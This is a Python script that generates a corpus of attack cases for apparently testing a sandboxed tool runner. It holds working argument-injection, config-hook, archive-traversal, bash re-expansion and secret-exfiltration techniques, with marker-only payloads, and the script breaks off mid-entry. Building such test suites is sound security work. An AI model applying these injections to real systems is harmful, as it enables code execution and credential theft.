#!/usr/bin/env python3
"""Writes attacks/NNN-*.yaml + .json (the YAML text is written verbatim below)."""

import base64, io, json, os, tarfile, textwrap

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
P = "HARBOR-PWNED-$((6*7))"  # shell computes the marker at run time
PY = 'print("HARBOR-PWNED-" + str(6*7))'
A = []

import re


def blockify(y):
    # a one-line `run:` whose text YAML would misread (': ', ' #') becomes a literal block
    def rep(m):
        ind, val = m.group(1), m.group(2)
        if val.startswith("|") or (": " not in val and " #" not in val):
            return m.group(0)
        return f"{ind}run: |\n{ind}  {val}"

    return re.sub(r"^(\s*)run: (.+)$", rep, y, flags=re.M)


def add(name, cls, why, args, yaml_text):
    A.append((name, cls, why, args, blockify(textwrap.dedent(yaml_text).lstrip())))


def tgz(members):
    b = io.BytesIO()
    t = tarfile.open(fileobj=b, mode="w:gz")
    for name, kind, data in members:
        i = tarfile.TarInfo(name)
        if kind == "sym":
            i.type = tarfile.SYMTYPE
            i.linkname = data
            t.addfile(i)
        else:
            d = data.encode()
            i.size = len(d)
            i.mode = 0o644
            t.addfile(i, io.BytesIO(d))
    t.close()
    return base64.b64encode(b.getvalue()).decode()


b64 = lambda s: base64.b64encode(s.encode()).decode()
KUBECONFIG = f"""apiVersion: v1
kind: Config
clusters:
- name: c
  cluster: {{server: "https://127.0.0.1:1"}}
contexts:
- name: x
  context: {{cluster: c, user: u}}
current-context: x
users:
- name: u
  user:
    exec:
      apiVersion: client.authentication.k8s.io/v1beta1
      command: sh
      args: ["-c", "echo {P} >&2; exit 1"]
      interactiveMode: Never
"""
GITCFG = f"[core]\nfsmonitor = echo {P} >&2; false\n"

# ---------------- class: reader-writes-workdir ----------------
add(
    "001-sort-save-list",
    "reader-writes-workdir",
    "sort -o writes the caller's lines to a caller-chosen path inside the project (json.py); a coreutils 'reader' taken as writing no file, so the folder is not marked caller-written and `python3 -m json.tool` then imports ./json.py from the working folder.",
    {"lines": PY, "dest": "json.py"},
    """
    name: save_sorted_list
    description: Sort and de-duplicate lines and save them to a file inside the project, then pretty-print the app settings.
    args:
      lines: {type: string, multiline: true, description: "The lines to sort, one per line"}
      dest: {type: string, within: ".", description: "File to write inside the project (must stay inside)"}
    required: [lines, dest]
    steps:
      - name: save
        run: printf '%s\\n' "$ARG_lines" | sort -u -o "$ARG_dest"
      - name: settings
        run: python3 -m json.tool config/app.json
    """,
)
add(
    "002-uniq-dedupe-to-file",
    "reader-writes-workdir",
    "uniq's second operand is an OUTPUT file: caller lines land in .git/config (core.fsmonitor), and the later `git status` runs the hook through sh.",
    {"lines": GITCFG.rstrip("\n"), "dest": ".git/config"},
    """
    name: dedupe_lines
    description: Collapse repeated adjacent lines and store the result in a project file, then show the working tree status.
    args:
      lines: {type: string, multiline: true, description: Text whose repeated lines are collapsed}
      dest: {type: string, within: ".", description: Output file inside the project (must stay inside)}
    required: [lines, dest]
    steps:
      - name: dedupe
        run: printf '%s\\n' "$ARG_lines" | uniq - "$ARG_dest"
      - name: status
        run: git status --short
    """,
)
add(
    "003-shuf-sample-save",
    "reader-writes-workdir",
    "shuf -o writes a caller-chosen file with caller lines (json.py); the confirmation step's `python3 -c 'import json'` has '' (the working folder) first on sys.path.",
    {"lines": PY, "count": 1, "dest": "json.py"},
    """
    name: sample_lines
    description: Pick a random sample of the given lines and save it to a file inside the project.
    args:
      lines: {type: string, multiline: true}
      count: {type: integer, minimum: 1, maximum: 1000, default: 10}
      dest: {type: string, within: ".", description: "File to write inside the project (must stay inside)"}
    required: [lines, dest]
    steps:
      - name: sample
        run: printf '%s\\n' "$ARG_lines" | shuf -n {{ args.count }} -o "$ARG_dest"
      - name: confirm
        run: python3 -c 'import json, sys; print(json.dumps({"saved": sys.argv[1]}))' "$ARG_dest"
    """,
)
add(
    "004-find-fprintf-inventory",
    "reader-writes-workdir",
    "find -fprintf FILE FORMAT writes caller text (the format) to a caller path (csv.py); find is a reader for the folder rule, and the summary step's python imports ./csv.py.",
    {"folder": "docs", "format": PY + "  # %p\\n", "report": "csv.py"},
    """
    name: file_inventory
    description: Write an inventory of a folder's files (find -printf format of your choice) to a report file, then count the rows of the data export.
    args:
      folder: {type: string, within: ".", default: "."}
      format: {type: string, default: "%p %s\\n", description: "find -printf format, e.g. %p %s\\n"}
      report: {type: string, within: ".", default: inventory.txt}
    steps:
      - name: inventory
        run: find "$ARG_folder" -maxdepth 1 -type f -fprintf "$ARG_report" "$ARG_format"
      - name: rows
        run: python3 -c 'import csv, sys; print(sum(1 for _ in csv.reader(open(sys.argv[1]))))' data/report.csv
    """,
)
add(
    "005-sort-wordlist-make",
    "reader-writes-workdir",
    "sort -o writes a one-line Makefile (`help: ; @echo ...`) chosen by the caller; the following literal `make -s help` (clean data only, so no grammar needed) reads it from the working folder.",
    {"words": "help: ; @echo HARBOR-PWNED-$$((6*7))", "dest": "Makefile"},
    """
    name: update_wordlist
    description: Save a sorted spelling word list into the project and list the make targets.
    args:
      words: {type: string, multiline: true, description: "Words, one per line"}
      dest: {type: string, within: ".", default: docs/wordlist.txt}
    required: [words]
    steps:
      - name: save
        run: printf '%s\\n' "$ARG_words" | sort -u -o "$ARG_dest"
      - name: targets
        run: make -s help
        continue_on_error: true
    """,
)
add(
    "006-sort-merge-ignore",
    "reader-writes-workdir",
    "sort -o with dest .git/config: '[core]' sorts before 'fsmonitor = ...', so the sorted text is a valid git config and `git status` runs core.fsmonitor.",
    {"patterns": GITCFG.rstrip("\n"), "dest": ".git/config"},
    """
    name: merge_ignore_patterns
    description: Merge ignore patterns into a sorted, de-duplicated file and show what git now reports.
    args:
      patterns: {type: string, multiline: true}
      dest: {type: string, within: ".", default: .gitignore}
    required: [patterns]
    steps:
      - name: merge
        run: |
          touch -- "$ARG_dest"
          { cat -- "$ARG_dest"; printf '%s\\n' "$ARG_patterns"; } | sort -u -o "$ARG_dest"
      - name: status
        run: git status --short
    """,
)
# ---------------- class: git-output-option ----------------
add(
    "007-git-log-format-output",
    "git-output-option",
    "`git log --output=FILE` writes; with the caller's --format the file content is arbitrary text (json.py), then python imports it from the working folder. git log is a read-only subcommand for the folder rule.",
    {"format": PY + "  %x23 %h", "count": 1, "dest": "json.py"},
    """
    name: export_changelog
    description: Write the latest commits in a chosen --format to a file inside the project and report it as JSON.
    args:
      format: {type: string, default: "%h %s", description: git log --format string}
      count: {type: integer, minimum: 1, maximum: 500, default: 20}
      dest: {type: string, within: ".", default: CHANGES.txt}
    steps:
      - name: log
        run: git log -n {{ args.count }} --format="$ARG_format" --output="$ARG_dest"
      - name: report
        run: python3 -c 'import json, os, sys; print(json.dumps({"file": sys.argv[1], "bytes": os.path.getsize(sys.argv[1])}))' "$ARG_dest"
    """,
)
add(
    "008-git-show-format-output",
    "git-output-option",
    "`git show -s --format=... --output=.git/config HEAD` writes a caller-formatted git config (%n = newline); the status step then runs core.fsmonitor.",
    {"format": "[core]%nfsmonitor = echo " + P + " >&2; false", "dest": ".git/config"},
    """
    name: commit_card
    description: Render the HEAD commit with a custom format into a file inside the project, then show the status.
    args:
      format: {type: string, default: "%H%n%an%n%s"}
      dest: {type: string, within: ".", default: commit.txt}
    steps:
      - name: card
        run: git show -s --format="$ARG_format" --output="$ARG_dest" HEAD
      - name: status
        run: git status --short
    """,
)
add(
    "009-git-log-output-makefile",
    "git-output-option",
    "git log --output writes a one-line Makefile from the caller's format; the literal `make -s -q all || true` step afterwards evaluates it.",
    {"format": "all: ; @echo HARBOR-PWNED-$$((6*7)) %x23 %h", "dest": "Makefile"},
    """
    name: release_notes_file
    description: Write release notes (custom git log format) to a file in the project, then check whether the build is up to date.
    args:
      format: {type: string, default: "- %s (%h)"}
      dest: {type: string, within: ".", default: RELEASE_NOTES.md}
    steps:
      - name: notes
        run: git log -n 1 --format="$ARG_format" --output="$ARG_dest"
      - name: uptodate
        run: make -s all || true
    """,
)
# ---------------- class: xargs-splitting ----------------
add(
    "010-xargs-tar-bundle",
    "xargs-splitting",
    "xargs splits the caller's list on blanks and honours quotes, so one value that starts with a letter yields items starting with '-': tar gets --checkpoint-action=exec (W105 is only a warning).",
    {"paths": "docs --checkpoint=1 '--checkpoint-action=exec=echo " + P + "'"},
    """
    name: bundle_paths
    description: Archive the listed project paths (separated by spaces or new lines) into one tarball and list it.
    args:
      paths: {type: string, description: "Paths to include, e.g. 'src docs'"}
    required: [paths]
    steps:
      - name: bundle
        run: |
          printf '%s\\n' "$ARG_paths" | xargs tar -czf "$HARBOR_RUN_DIR/bundle.tgz"
          tar -tzf "$HARBOR_RUN_DIR/bundle.tgz" | head -n 50
    """,
)
add(
    "011-xargs-sed-head",
    "xargs-splitting",
    "xargs turns the quoted word into an item '--expression=1e echo ...'; GNU sed's e command runs it.",
    {"files": "README.md '--expression=1e echo " + P + "'", "lines": 3},
    """
    name: head_of_files
    description: Show the first lines of each listed file.
    args:
      files: {type: string, description: "File names separated by spaces"}
      lines: {type: integer, minimum: 1, maximum: 200, default: 10}
    required: [files]
    steps:
      - name: head
        run: printf '%s\\n' "$ARG_files" | xargs sed -n '1,{{ args.lines }}p'
    """,
)
add(
    "012-xargs-zip",
    "xargs-splitting",
    "xargs items '-T' '-TT' 'echo ...': zip tests the archive with the caller's command through system().",
    {"files": "README.md -T -TT 'echo " + P + "'"},
    """
    name: zip_files
    description: Zip the listed files for download.
    args:
      files: {type: string, description: "Files separated by spaces"}
    required: [files]
    steps:
      - name: zip
        run: printf '%s\\n' "$ARG_files" | xargs zip -q "$HARBOR_RUN_DIR/files.zip"
      - name: size
        run: wc -c "$HARBOR_RUN_DIR/files.zip"
    """,
)
add(
    "013-xargs-sed-trailing",
    "xargs-splitting",
    "xargs splits a list of files for an in-place whitespace fix; an item '--expression=1e ...' makes sed run a command.",
    {"files": "README.md '--expression=1e echo " + P + " >&2'"},
    """
    name: strip_trailing_spaces
    description: Remove trailing spaces from the listed project files (in place).
    args:
      files: {type: string}
    required: [files]
    steps:
      - name: strip
        run: printf '%s\\n' "$ARG_files" | xargs sed -i -e 's/[[:space:]]*$//'
      - name: diff
        run: git diff --stat
    """,
)
# ---------------- class: unquoted-word-splitting ----------------
add(
    "014-split-sed-preview",
    "unquoted-word-splitting",
    "unquoted $ARG_files (W102, a warning) splits into words; the second word starts with '-' although the value does not; ${IFS} makes sed's e command a multi-word shell line.",
    {"files": "README.md --expression=1eecho${IFS}" + P},
    """
    name: preview_files
    description: Print the first 10 lines of each listed file (space separated).
    args:
      files: {type: string, pattern: "[^;|&<>`]+", description: "Files separated by spaces"}
    required: [files]
    steps:
      - name: preview
        run: sed -n '1,10p' $ARG_files
    """,
)
add(
    "015-split-tar",
    "unquoted-word-splitting",
    "unquoted list of folders for tar: words --checkpoint=1 and --checkpoint-action=exec=... (tar runs it through sh, which expands ${IFS}).",
    {"dirs": "docs --checkpoint=1 --checkpoint-action=exec=echo${IFS}" + P},
    """
    name: archive_dirs
    description: Archive several folders (space separated) into one tarball.
    args:
      dirs: {type: string, pattern: "[A-Za-z0-9_./ =${}()*+-]+", description: "Folders separated by spaces"}
    required: [dirs]
    steps:
      - name: archive
        run: tar -czf "$HARBOR_RUN_DIR/dirs.tgz" $ARG_dirs
    """,
)
add(
    "016-split-zip",
    "unquoted-word-splitting",
    "unquoted list for zip: -T and -TTcmd make zip run the caller's test command.",
    {"files": "README.md -T -TTecho${IFS}" + P},
    """
    name: zip_list
    description: Zip the files named in a space separated list.
    args:
      files: {type: string}
    required: [files]
    steps:
      - name: zip
        run: zip -q "$HARBOR_RUN_DIR/list.zip" $ARG_files
    """,
)
add(
    "017-for-loop-tar",
    "unquoted-word-splitting",
    "a for loop over the unquoted list gives one tar call per word; the word --use-compress-program=... runs through sh.",
    {"dirs": "docs --use-compress-program=echo${IFS}" + P + ">&2;cat"},
    """
    name: archive_each
    description: Make one tar archive per listed folder.
    args:
      dirs: {type: string}
    required: [dirs]
    steps:
      - name: archive
        run: |
          n=0
          for d in $ARG_dirs; do
            n=$((n + 1))
            tar -cf "$HARBOR_RUN_DIR/part-$n.tar" "$d" docs || true
          done
          ls -l "$HARBOR_RUN_DIR"
    """,
)
# ---------------- class: line-split-items ----------------
add(
    "018-mapfile-sed",
    "line-split-items",
    "a multiline value is refused only when its FIRST character is '-': mapfile splits it into lines and the second line is a sed option (--expression=1e ...).",
    {"list": "README.md\n--expression=1e echo " + P},
    """
    name: show_files
    description: Show the first five lines of each file listed one per line.
    args:
      list: {type: string, multiline: true, description: "Files, one per line"}
    required: [list]
    steps:
      - name: show
        run: |
          mapfile -t files <<< "$ARG_list"
          sed -n '1,5p' "${files[@]}"
    """,
)
add(
    "019-read-loop-tar",
    "line-split-items",
    "lines read one by one from a multiline value (first line fine, later ones may start with '-') collected into an array for tar: --use-compress-program runs through sh.",
    {"paths": "docs\n--use-compress-program=sh -c 'echo " + P + " >&2; cat'"},
    """
    name: tar_listed
    description: Archive the paths listed one per line.
    args:
      paths: {type: string, multiline: true}
    required: [paths]
    steps:
      - name: tar
        run: |
          items=()
          while IFS= read -r p; do
            [ -n "$p" ] && items+=("$p")
          done <<< "$ARG_paths"
          tar -cf "$HARBOR_RUN_DIR/listed.tar" "${items[@]}"
    """,
)
add(
    "020-ifs-comma-zip",
    "line-split-items",
    "IFS=, read -ra splits a comma list: items after a comma may start with '-' (-T, -TT, then the command zip runs).",
    {"csv": "README.md,-T,-TT,echo " + P},
    """
    name: zip_csv_list
    description: Zip a comma-separated list of project files.
    args:
      csv: {type: string, description: "e.g. README.md,docs/index.md"}
    required: [csv]
    steps:
      - name: zip
        run: |
          IFS=, read -ra items <<< "$ARG_csv"
          zip -q "$HARBOR_RUN_DIR/selection.zip" "${items[@]}"
    """,
)
# ---------------- class: perl-magic-open ----------------
PERLFILE = "echo " + P + " >&2 |"
add(
    "021-perl-ne-search",
    "perl-magic-open",
    "perl -n reads its operands with <> (2-argument open): a file name ending in '|' is a shell command. The path passes within: '.' because it does not exist.",
    {"needle": "ERROR", "file": PERLFILE},
    """
    name: find_in_file
    description: Print the lines of a file that contain a literal string.
    args:
      needle: {type: string}
      file: {type: string, within: ".", description: File inside the project (must stay inside)}
    required: [needle, file]
    steps:
      - name: search
        run: perl -ne 'BEGIN { $n = shift } print if index($_, $n) >= 0' -- "$ARG_needle" "$ARG_file"
    """,
)
add(
    "022-perl-pe-trim",
    "perl-magic-open",
    "perl -p also loops over <>: the operand 'echo ...|' is opened as a pipe from sh.",
    {"file": PERLFILE},
    """
    name: trim_preview
    description: Show a file with trailing whitespace removed (preview, nothing is written).
    args:
      file: {type: string, within: ".", description: File inside the project (must stay inside)}
    required: [file]
    steps:
      - name: trim
        run: perl -pe 's/[ \\t]+$//' -- "$ARG_file"
    """,
)
add(
    "023-perl-lane-column",
    "perl-magic-open",
    "perl -lane: -n's <> magic open on the caller's file operand.",
    {"file": PERLFILE, "column": 0},
    """
    name: column_of_file
    description: Print one whitespace-separated column of a text file.
    args:
      file: {type: string, within: "."}
      column: {type: integer, minimum: 0, maximum: 50, default: 0}
    required: [file]
    steps:
      - name: column
        run: perl -lane 'print $F[{{ args.column }}] // ""' -- "$ARG_file"
    """,
)
add(
    "024-perl-slurp-count",
    "perl-magic-open",
    "perl -0777 -ne counts per file; <> magic-opens the array items.",
    {"files": ["logs/app.log", PERLFILE]},
    """
    name: count_errors
    description: Count ERROR occurrences in each listed log file.
    args:
      files: {type: array, items: {type: string}, within: ".", minItems: 1}
    required: [files]
    steps:
      - name: count
        run: |
          mapfile -t f < <(printf '%s' "$ARG_files" | jq -r '.[]')
          perl -0777 -ne 'my $n = () = /ERROR/g; print "$ARGV: $n\\n"' -- "${f[@]}"
    """,
)
add(
    "025-perl-argv-step",
    "perl-magic-open",
    "the same magic open in an argv: step (one argv element, after --).",
    {"log": PERLFILE},
    """
    name: warn_lines
    description: Show WARN and ERROR lines of a log file.
    args:
      log: {type: string, within: ".", default: logs/app.log}
    steps:
      - name: grep
        argv: [perl, -ne, 'print if /\\b(WARN|ERROR)\\b/', "--", "{{ args.log }}"]
    """,
)
# ---------------- class: bash-builtin-reexpansion ----------------
SUB = "x$(echo " + P + " >&2)"
add(
    "026-unset-assoc-label",
    "bash-builtin-reexpansion",
    'unset "labels[$ARG_drop]": bash expands an associative subscript given to unset again, so $(...) in the value runs.',
    {"drop": SUB},
    """
    name: labels_without
    description: Print the deployment labels without the one named.
    args:
      drop: {type: string}
    required: [drop]
    steps:
      - name: labels
        run: |
          declare -A labels=([team]=platform [tier]=backend [env]=staging)
          unset "labels[$ARG_drop]"
          for k in "${!labels[@]}"; do printf '%s=%s\\n' "$k" "${labels[$k]}"; done
    """,
)
add(
    "027-test-v-owner",
    "bash-builtin-reexpansion",
    '[ -v "owners[$ARG_service]" ]: test -v evaluates the subscript again, running $(...).',
    {"service": SUB},
    """
    name: service_owner
    description: Say who owns a service.
    args:
      service: {type: string}
    required: [service]
    steps:
      - name: owner
        run: |
          declare -A owners=([api]=alice [web]=bob [worker]=carol)
          if [ -v "owners[$ARG_service]" ]; then
            printf '%s\\n' "${owners[$ARG_service]}"
          else
            echo "unknown service"
          fi
    """,
)
add(
    "028-printf-v-assoc",
    "bash-builtin-reexpansion",
    'printf -v "tags[$ARG_key]": the name printf assigns is parsed again, its subscript expanded a second time.',
    {"key": SUB, "value": "1"},
    """
    name: tag_json
    description: Add one tag to the default tags and print them as JSON.
    args:
      key: {type: string, pattern: "[^\\\\[\\\\]]+"}
      value: {type: string}
    required: [key, value]
    steps:
      - name: tags
        run: |
          declare -A tags=([team]=platform)
          printf -v "tags[$ARG_key]" '%s' "$ARG_value"
          for k in "${!tags[@]}"; do printf '%s\\t%s\\n' "$k" "${tags[$k]}"; done | jq -R 'split("\\t") | {(.[0]): .[1]}' | jq -s add
    """,
)
add(
    "029-read-into-assoc",
    "bash-builtin-reexpansion",
    'read -r "cfg[$ARG_name]": read\'s target name is an array reference whose subscript is expanded again.',
    {"name": SUB},
    """
    name: first_line_as
    description: Store the first line of the README under a name and print the table.
    args:
      name: {type: string}
    required: [name]
    steps:
      - name: read
        run: |
          declare -A cfg
          read -r "cfg[$ARG_name]" < README.md || true
          for k in "${!cfg[@]}"; do printf '%s: %s\\n' "$k" "${cfg[$k]}"; done
    """,
)
add(
    "030-compgen-filter",
    "bash-builtin-reexpansion",
    "compgen -W expands each word of its word list (command substitution included): a caller's candidate list is code.",
    {"candidates": "main $(echo " + P + " >&2) develop", "prefix": "ma"},
    """
    name: filter_by_prefix
    description: Filter a list of names (space separated) to those starting with a prefix.
    args:
      candidates: {type: string}
      prefix: {type: string, default: ""}
    required: [candidates]
    steps:
      - name: filter
        run: compgen -W "$ARG_candidates" -- "$ARG_prefix" || true
    """,
)
# ---------------- class: archive-extraction ----------------
TAR1 = tgz([("c", "sym", "/proc/self/cwd"), ("c/json.py", "file", PY + "\n")])
TAR2 = tgz([("g", "sym", "/proc/self/cwd/.git"), ("g/config", "file", GITCFG)])
TAR3 = tgz(
    [
        ("m", "sym", "/proc/self/cwd"),
        ("m/Makefile", "file", "all: ; @echo HARBOR-PWNED-$$((6*7))\n"),
    ]
)
add(
    "031-tarfile-inspect",
    "archive-extraction",
    "python tarfile.extractall (3.11: no filter) extracts into the run directory, but a symlink member to /proc/self/cwd leads the next member into the working folder (json.py); the summary step's python imports it.",
    {"bundle": TAR1},
    """
    name: inspect_bundle
    description: Unpack an uploaded .tar.gz into the run directory and summarise its files as JSON.
    args:
      bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 10000000}
    required: [bundle]
    steps:
      - name: unpack
        run: python3 -c 'import sys, tarfile; t = tarfile.open(sys.argv[1]); t.extractall(sys.argv[2]); print("\\n".join(t.getnames()))' "$ARG_bundle" "$HARBOR_RUN_DIR/bundle"
      - name: summary
        run: python3 -c 'import json, os, sys; print(json.dumps(sorted(os.listdir(sys.argv[1]))))' "$HARBOR_RUN_DIR/bundle"
    """,
)
add(
    "032-unpack-archive-gitconfig",
    "archive-extraction",
    "shutil.unpack_archive follows a member symlink to /proc/self/cwd/.git and overwrites .git/config; `git status` then runs core.fsmonitor.",
    {"archive": TAR2},
    """
    name: stage_fixture_archive
    description: Unpack a fixture archive into the run directory and show the repository status next to it.
    args:
      archive: {type: string, contentEncoding: base64, contentMediaType: application/gzip}
    required: [archive]
    steps:
      - name: unpack
        run: python3 -c 'import shutil, sys; shutil.unpack_archive(sys.argv[1], sys.argv[2], "gztar")' "$ARG_archive" "$HARBOR_RUN_DIR/fixture"
      - name: status
        run: git status --short
    """,
)
add(
    "033-tarfile-makefile",
    "archive-extraction",
    "tarfile extraction through a symlink member drops a Makefile in the working folder; the literal `make -s all` runs it.",
    {"bundle": TAR3},
    """
    name: import_assets
    description: Extract an uploaded asset bundle into the run directory, then rebuild the project.
    args:
      bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip}
    required: [bundle]
    steps:
      - name: extract
        run: python3 -c 'import sys, tarfile; tarfile.open(sys.argv[1]).extractall(sys.argv[2])' "$ARG_bundle" "$HARBOR_RUN_DIR/assets"
      - name: build
        run: make -s all || true
    """,
)
# ---------------- class: config-file-runs-code ----------------
add(
    "034-kubeconfig-attachment",
    "config-file-runs-code",
    "kubectl --kubeconfig FILE: a kubeconfig's users[].user.exec is a credential plugin kubectl runs before any request.",
    {"kubeconfig": b64(KUBECONFIG)},
    """
    name: check_kubeconfig
    description: Check that an attached kubeconfig can list namespaces.
    args:
      kubeconfig: {type: string, contentEncoding: base64, contentMediaType: application/yaml, max_bytes: 100000}
    required: [kubeconfig]
    timeout: 60
    steps:
      - name: namespaces
        run: kubectl --kubeconfig "$ARG_kubeconfig" --request-timeout=5s get namespaces -o name
    """,
)
add(
    "035-kubeconfig-env",
    "config-file-runs-code",
    "KUBECONFIG passed to one kubectl command (a variable kubectl reads as a file name): the file's exec plugin runs.",
    {"kubeconfig": b64(KUBECONFIG)},
    """
    name: whoami_with_kubeconfig
    description: Show the current context and the nodes visible with an uploaded kubeconfig.
    args:
      kubeconfig: {type: string, contentEncoding: base64, contentMediaType: application/yaml}
    required: [kubeconfig]
    steps:
      - name: nodes
        run: |
          KUBECONFIG="$ARG_kubeconfig" kubectl config current-context
          KUBECONFIG="$ARG_kubeconfig" kubectl --request-timeout=5s get nodes
    """,
)
add(
    "036-ssh-config-probe",
    "config-file-runs-code",
    "ssh -F FILE: the caller's ssh_config ProxyCommand runs locally (the remote command is a literal, so no caller word reaches ssh's joined command).",
    {"config": b64("Host *\n  ProxyCommand sh -c 'echo " + P + " >&2'\n  BatchMode yes\n")},
    """
    name: bastion_probe
    description: Check that an attached ssh_config reaches the bastion (runs `true` there).
    args:
      config: {type: string, contentEncoding: base64, contentMediaType: text/plain, max_bytes: 20000}
    required: [config]
    timeout: 30
    steps:
      - name: probe
        run: ssh -F "$ARG_config" -o ConnectTimeout=5 bastion.internal true
    """,
)
add(
    "037-git-config-global",
    "config-file-runs-code",
    "GIT_CONFIG_GLOBAL names the caller's file for one git command: core.fsmonitor in it runs on `git status`.",
    {"gitconfig": b64(GITCFG)},
    """
    name: status_with_team_config
    description: Show the repository status as it looks with a team's uploaded .gitconfig.
    args:
      gitconfig: {type: string, contentEncoding: base64, contentMediaType: text/plain}
    required: [gitconfig]
    steps:
      - name: status
        run: GIT_CONFIG_GLOBAL="$ARG_gitconfig" git status --short --branch
    """,
)
# ---------------- class: declared-grammar-wrong ----------------
add(
    "038-make-dry-run-target",
    "declared-grammar-wrong",
    "make declared runs_operands: false (its operands are 'targets'): an operand NAME:=VALUE is a variable assignment expanded at once, $(shell) included, even under -n and with no Makefile.",
    {"target": "x:=$(shell echo HARBOR-PWNED-$$((6*7)) >&2)"},
    """
    name: make_dry_run
    description: Show what make would do for a target (dry run, nothing is built).
    programs:
      make:
        options_with_value: [-C, -f]
        flags: [-n, -s, -k]
        runs_operands: false
    args:
      target: {type: string, default: all}
    steps:
      - name: dry
        env: {SHELL: /bin/bash}
        run: make -n -s "$ARG_target" || true
    """,
)
add(
    "039-sqlite-readonly-query",
    "declared-grammar-wrong",
    "sqlite3's SQL operand may be a dot-command: '.shell ...' runs a command even with -readonly; the declared grammar says operands are not run.",
    {"query": ".shell echo " + P},
    """
    name: cache_query
    description: Run a read-only query on the local cache database.
    programs:
      sqlite3:
        flags: [-readonly, -json, -header]
        runs_operands: false
    args:
      query: {type: string, default: "select count(*) from sqlite_master"}
    steps:
      - name: query
        run: sqlite3 -readonly -json "$HARBOR_RUN_DIR/cache.db" "$ARG_query"
    """,
)
# ---------------- class: secret-leak ----------------
add(
    "040-envsubst-grep-o",
    "secret-leak",
    "the token reaches the rendered file through envsubst's environment (not followed by H010); grep -o with the caller's pattern '.' prints it one character per line, which the verbatim scrubber misses.",
    {"pattern": "."},
    """
    name: check_rendered_config
    description: Render the service config with the API token and search it for a setting.
    secrets:
      API_TOKEN: {env: CI_API_TOKEN}
    args:
      pattern: {type: string, description: Regular expression to look for in the rendered config}
    required: [pattern]
    steps:
      - name: render
        run: |
          printf '%s\\n' 'endpoint = https://api.internal.example' 'token = ${API_TOKEN}' |
            API_TOKEN="$API_TOKEN" envsubst '${API_TOKEN}' > "$HARBOR_RUN_DIR/app.conf"
      - name: search
        run: grep -o -e "$ARG_pattern" "$HARBOR_RUN_DIR/app.conf" || echo "no match"
    """,
)
add(
    "041-jq-request-fold",
    "secret-leak",
    "jq --arg puts the token in a run-directory file (a program's output, not followed); fold -w with the caller's width 1 prints it a character per line.",
    {"width": 1},
    """
    name: preview_request
    description: Build the deploy API request body and show it wrapped to a width.
    secrets:
      DEPLOY_TOKEN: {env: CI_DEPLOY_TOKEN}
    args:
      width: {type: integer, minimum: 1, maximum: 200, default: 80}
    steps:
      - name: build
        run: jq -n --arg token "$DEPLOY_TOKEN" '{service: "app", auth: {token: $token}}' > "$HARBOR_RUN_DIR/request.json"
      - name: preview
        run: fold -w {{ args.width }} "$HARBOR_RUN_DIR/request.json"
    """,
)
add(
    "042-format-map-notify",
    "secret-leak",
    "the caller's message template is a str.format_map template over os.environ, which holds the token for the request; {NOTIFY_TOKEN[0]} {NOTIFY_TOKEN[1]} ... prints it a character at a time.",
    {"template": " ".join("{NOTIFY_TOKEN[%d]}" % i for i in range(13))},
    """
    name: notify_preview
    description: Render a notification from a template (placeholders such as {HARBOR_TOOL} or {USER} come from the environment) and show it.
    secrets:
      NOTIFY_TOKEN: {env: CI_NOTIFY_TOKEN}
    args:
      template: {type: string}
    required: [template]
    steps:
      - name: render
        run: NOTIFY_TOKEN="$NOTIFY_TOKEN" python3 -c 'import json, os, sys; print(json.dumps({"text": sys.argv[1].format_map(os.environ)}))' "$ARG_template"
    """,
)
add(
    "043-hex-view-config",
    "secret-leak",
    "the text view masks the token with sed; the caller picks the hex view, and xxd -p prints the file (token included) as hex.",
    {"view": "hex"},
    """
    name: view_rendered_netrc
    description: Render the registry credentials file and show it (text view masks the password; hex view for encoding problems).
    secrets:
      REGISTRY_PASSWORD: {env: CI_REGISTRY_PASSWORD}
    args:
      view: {type: string, enum: [text, hex], default: text}
    steps:
      - name: render
        run: |
          printf 'machine registry.internal login ci password ${REGISTRY_PASSWORD}\\n' |
            REGISTRY_PASSWORD="$REGISTRY_PASSWORD" envsubst > "$HARBOR_RUN_DIR/netrc"
      - name: show
        run: |
          case "$ARG_view" in
            text) sed 's/password .*/password ***/' "$HARBOR_RUN_DIR/netrc" ;;
            hex) xxd -p "$HARBOR_RUN_DIR/netrc" ;;
          esac
    """,
)
add(
    "044-awk-chunks",
    "secret-leak",
    "awk (given the token in its environment by the script to build a header) prints ENVIRON values in caller-sized chunks: width 1 splits it.",
    {"width": 2},
    """
    name: header_preview
    description: Show the request headers that will be sent, wrapped to a width, with the credential header masked.
    secrets:
      API_KEY: {env: CI_API_KEY}
    args:
      width: {type: integer, minimum: 1, maximum: 120, default: 60}
    steps:
      - name: headers
        run: |
          API_KEY="$API_KEY" awk -v w={{ args.width }} 'BEGIN {
            h = "Accept: application/json\\nX-Api-Key: " ENVIRON["API_KEY"]
            n = split(h, L, "\\n")
            for (i = 1; i <= n; i++) {
              if (length(L[i]) <= w) { print L[i]; continue }
              for (j = 1; j <= length(L[i]); j += w) print substr(L[i], j, w)
            }
          }' | sed 's/^X-Api-Key: .*/X-Api-Key: ***/'
    """,
)
add(
    "045-mapfile-git-log-output",
    "line-split-items",
    "multiline revision list: the second line '--output=json.py' is a git log option (write), then the third line --format gives the content; the report step's python imports ./json.py.",
    {"revs": "HEAD\n--output=json.py\n--format=" + PY + " %x23 %h"},
    """
    name: log_revisions
    description: Show one-line logs for revisions listed one per line and report how many were given.
    args:
      revs: {type: string, multiline: true}
    required: [revs]
    steps:
      - name: log
        run: |
          mapfile -t r <<< "$ARG_revs"
          git log -n 1 "${r[@]}" --
      - name: report
        run: python3 -c 'import json, sys; print(json.dumps({"revisions": len(sys.argv) - 1}))' "$ARG_revs"
    """,
)
add(
    "046-compgen-branches",
    "bash-builtin-reexpansion",
    "compgen -W over a list built from the caller's extra names: each word is expanded again by compgen.",
    {"extra": "$(echo " + P + " >&2)", "prefix": "r"},
    """
    name: branch_complete
    description: Complete a branch name from the local branches plus extra names given by the caller.
    args:
      extra: {type: string, default: ""}
      prefix: {type: string, default: ""}
    steps:
      - name: complete
        run: |
          branches="$(git for-each-ref --format='%(refname:short)' refs/heads)"
          compgen -W "$branches $ARG_extra" -- "$ARG_prefix" || true
    """,
)

# ---------------- class: scratch-path-traversal ----------------
UP = "../" * 12 + "proc/self/cwd/"
add(
    "047-scratch-note-name",
    "scratch-path-traversal",
